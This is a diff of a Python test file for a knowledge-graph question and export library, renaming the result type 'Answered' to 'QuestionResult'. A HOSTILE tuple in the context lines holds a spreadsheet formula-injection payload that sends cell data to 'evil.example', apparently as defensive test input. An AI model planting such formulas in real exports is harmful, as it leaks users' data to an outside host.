@@ -12,7 +12,7 @@ from kg.engine import Term
 from kg.graph.describe import Label, Place
 from kg.output.export import Notes
 from kg.questions.catalogue import CannedQuestion, Column, Option, Parameter, Texts
-from kg.questions.result import Answered, Row
+from kg.questions.result import QuestionResult, Row
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -76,11 +76,11 @@ def answered(
     labels: Mapping[NamedNode, str] | None = None,
     places: Sequence[Place] = (),
     parameters: Sequence[Parameter] = (),
-) -> Answered:
+) -> QuestionResult:
     """An answer with columns of these kinds."""
     made = tuple(Column(key, same(key.capitalize()), kind) for key, kind in columns.items())
     kept: tuple[Row, ...] = tuple(tuple(row) for row in rows)
-    return Answered(
+    return QuestionResult(
         question=CannedQuestion(
             slug="made",
             title=same("Made by hand"),
